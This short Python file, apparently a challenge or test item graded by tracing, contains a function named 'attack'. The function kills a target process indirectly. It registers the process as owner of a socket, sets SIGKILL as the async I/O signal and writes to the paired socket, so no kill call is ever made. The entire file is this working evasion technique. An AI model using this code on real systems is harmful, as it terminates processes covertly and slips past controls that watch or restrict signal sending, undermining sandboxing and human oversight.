"""As by a pipe, with the call for sockets."""
# judged by: trace

import fcntl
import os
import signal
import socket
import struct


def attack(target):
    mine, other = socket.socketpair()
    fcntl.ioctl(mine, 0x8901, struct.pack("i", target["pid"]))
    fcntl.fcntl(mine, 10, signal.SIGKILL)
    flags = fcntl.fcntl(mine, fcntl.F_GETFL)
    fcntl.fcntl(mine, fcntl.F_SETFL, flags | os.O_ASYNC)
    other.send(b"x")
